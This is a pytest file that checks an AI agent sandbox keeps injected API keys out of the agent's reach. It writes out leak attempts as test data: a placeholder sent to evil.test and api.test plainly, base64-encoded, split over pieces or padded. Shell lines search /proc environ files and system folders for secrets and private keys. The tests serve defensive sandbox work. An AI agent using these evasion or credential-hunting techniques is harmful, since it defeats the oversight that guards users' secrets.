"""What a key is worth stays outside; inside is a word that opens nothing."""

import base64
import subprocess
from collections.abc import Iterator

import pytest

from swarm.policy.rules import Inject, Secret
from tests.promises.sandbox_probe import SandboxProbe

VALUE = "sk-the-real-value-0123456789abcdef"
PLACEHOLDER = "swarm-placeholder-1f2e3d4c5b6a79881f2e3d4c"
SECRET = Secret("web", "env:X", ("good.test",), "WEB_KEY")


@pytest.fixture
def keyed(sandbox: SandboxProbe) -> Iterator[SandboxProbe]:
    """A policy that puts a key into requests to good.test."""
    give_key(sandbox)
    yield sandbox
    sandbox.allow()


def give_key(sandbox: SandboxProbe) -> None:
    """The rule, the value, and the placeholder that the agent was given."""
    inject = Inject("Authorization", "Bearer {}", "web")
    rule = sandbox.good(inject=inject)
    sandbox.allow(
        rule,
        sandbox.good(host="evil.test"),
        sandbox.good(host="api.test", methods=("GET", "POST")),
        secrets=(SECRET,),
        values={"web": VALUE},
        placeholders={"web": PLACEHOLDER},
    )


def test_the_gate_puts_the_value_in_its_place(real_sandbox: SandboxProbe) -> None:
    """Promise: the bound host gets the real value; what it echoes is masked.

    Why: a key that cannot be used is no key; a host that echoes hands it to the agent.
    """
    give_key(real_sandbox)

    field = f"Authorization: {PLACEHOLDER}\\\\r\\\\n"
    done = real_sandbox.run(f"say(via('good.test', '/with-key', more='{field}'))")

    assert f"Authorization: Bearer {'*' * len(VALUE)}" in done.out, done.out
    assert VALUE not in done.out


def test_another_host_never_gets_the_value(keyed: SandboxProbe) -> None:
    """Promise: a request whose Host names the bound host, sent elsewhere, gets nothing.

    Why: Sandcat binds secrets to the Host header: any address got the real key.
    """
    keyed.run("""
        for host in ("api.test", "evil.test"):
            try:
                say(via(host, "/elsewhere", name="good.test"))
            except OSError as error:
                say(error)
    """)

    got = [data for data in keyed.web._got if b"/elsewhere" in data]
    assert not any(VALUE.encode() in data for data in got)
    assert not got, "a request with another Host went out"


ENCODED = base64.b64encode(f"k={PLACEHOLDER}".encode()).decode()
SHIFTED = base64.b64encode(f"ab={PLACEHOLDER}!".encode()).decode()
LEAKS = {
    "in a field": (f"more='X-Key: {PLACEHOLDER}\\r\\n'", PLACEHOLDER),
    "in the path": (f"path='/a?key={PLACEHOLDER}'", PLACEHOLDER),
    "in the body": (f"method='POST', body='key={PLACEHOLDER}'", PLACEHOLDER),
    "in base64": (f"method='POST', body='{ENCODED}'", ENCODED),
    "in base64, shifted": (f"method='POST', body='{SHIFTED}'", SHIFTED),
    "in JSON": (f"""method='POST', body='{{"k": "{PLACEHOLDER}"}}'""", PLACEHOLDER),
    "behind a megabyte": (
        f"method='POST', body='x' * 1000000 + '{PLACEHOLDER}'",
        PLACEHOLDER,
    ),
}


@pytest.mark.parametrize(("how", "what"), LEAKS.values(), ids=LEAKS.keys())
def test_the_placeholder_on_its_way_elsewhere_is_stopped(
    keyed: SandboxProbe, how: str, what: str
) -> None:
    """Promise: the placeholder never arrives whole at another host, and it is told.

    Why: who sends it elsewhere would have sent the key.
    """
    keyed.web.forget()
    keyed.run(f"""
        try:
            say(via('api.test', {how}).split("\\r\\n")[0])
        except OSError as error:
            say("cut", error)
    """)

    assert not keyed.web.got(what)


def test_the_placeholder_split_over_two_pieces_is_stopped(keyed: SandboxProbe) -> None:
    """Promise: it is found across the pieces that a body comes in.

    Why: splitting is the first idea.
    """
    half = len(PLACEHOLDER) // 2
    keyed.web.forget()
    keyed.run(f"""
        import time
        wire, status = tunnel(f"api.test:{{PORT}}")
        inner = tls(wire, "api.test")
        head = f"POST /split HTTP/1.1\\r\\nHost: api.test:{{PORT}}\\r\\n"
        head += "Content-Length: {len(PLACEHOLDER)}\\r\\n\\r\\n"
        inner.sendall(head.encode())
        try:
            inner.sendall(b"{PLACEHOLDER[:half]}")
            time.sleep(0.2)
            inner.sendall(b"{PLACEHOLDER[half:]}")
            read(inner, 1)
        except OSError as error:
            say("cut", error)
    """)

    assert not keyed.web.got(PLACEHOLDER)


def test_a_leak_is_a_red_event(real_sandbox: SandboxProbe) -> None:
    """Promise: the attempt stands in the journal, with the host and without the value.

    Why: it is the loudest thing an agent can do.
    """
    give_key(real_sandbox)
    real_sandbox.run(f"say(via('api.test', path='/b?key={PLACEHOLDER}')[:12])")

    real_sandbox.harness.until(
        lambda: any(
            d.reason == "secret-elsewhere" for d in real_sandbox.said("NetDenied")
        ),
        "the leak",
    )


def test_the_value_is_in_nothing_the_agent_can_read(real_sandbox: SandboxProbe) -> None:
    """Promise: no variable, file or process of the sandbox holds the value.

    Why: what is there is read.
    """
    give_key(real_sandbox)

    done = real_sandbox.shell(
        f"env | grep -c '{VALUE[:12]}'; cat /proc/[0-9]*/environ 2>/dev/null "
        f"| tr '\\0' '\\n' | grep -c '{VALUE[:12]}'; "
        f"grep -rls '{VALUE[:12]}' /etc /workspace /home /tmp /run /opt | wc -l"
    )

    assert done.out.split() == ["0", "0", "0"]


def test_the_value_is_in_nothing_that_we_keep(real_sandbox: SandboxProbe) -> None:
    """Promise: not in the journal, the logs, `inspect`, nor on tmux's screens.

    Why: Leash injects secrets that it logs in clear.
    """
    give_key(real_sandbox)
    real_sandbox.run("say(via('good.test', '/once-more')[:20])")
    home, kit = real_sandbox.harness.paths.home, real_sandbox.harness.context

    files = [file for file in home.rglob("*") if file.is_file()]
    holders = [str(file) for file in files if VALUE.encode() in file.read_bytes()]
    names = [facts.name for facts in kit.containers.all(kit.home_labels)]
    inspected = "".join(str(real_sandbox.inspect(name)) for name in names)
    logs = b"".join(kit.containers.logs(name, 10_000) for name in names)
    screens = "".join(s.text for s in kit.panes.capture(list(kit.panes.all())).values())

    assert holders == []
    assert VALUE not in inspected
    assert VALUE.encode() not in logs
    assert VALUE not in screens


def test_the_cas_key_is_in_the_gate_alone(real_sandbox: SandboxProbe) -> None:
    """Promise: no sandbox, no net and no folder of the host's home holds the CA's key.

    Why: Sandcat mounts its CA's private key into the app container.
    """
    done = real_sandbox.shell(
        "grep -rls 'PRIVATE KEY' /etc/swarm /etc/ssl /home /workspace /tmp | wc -l"
    )
    mounts = str(real_sandbox.inspect()["Mounts"]) + str(
        real_sandbox.inspect(real_sandbox.net)["Mounts"]
    )
    files = [
        file for file in real_sandbox.harness.paths.home.rglob("*") if file.is_file()
    ]

    assert done.out.strip() == "0"
    assert real_sandbox.harness.parts.nets.gate.names.keys not in mounts
    # The dashes tell a key from the audit's line about the search for one.
    assert not any(b"PRIVATE KEY-----" in file.read_bytes() for file in files)


def test_the_value_is_not_on_any_command_line(real_sandbox: SandboxProbe) -> None:
    """Promise: the host's process list shows no value either.

    Why: `docker run -e KEY=…` is in `ps` for everybody.
    """
    give_key(real_sandbox)

    listed = subprocess.run(["ps", "axeww"], capture_output=True, check=True).stdout

    assert VALUE.encode() not in listed.replace(b"pytest", b"")
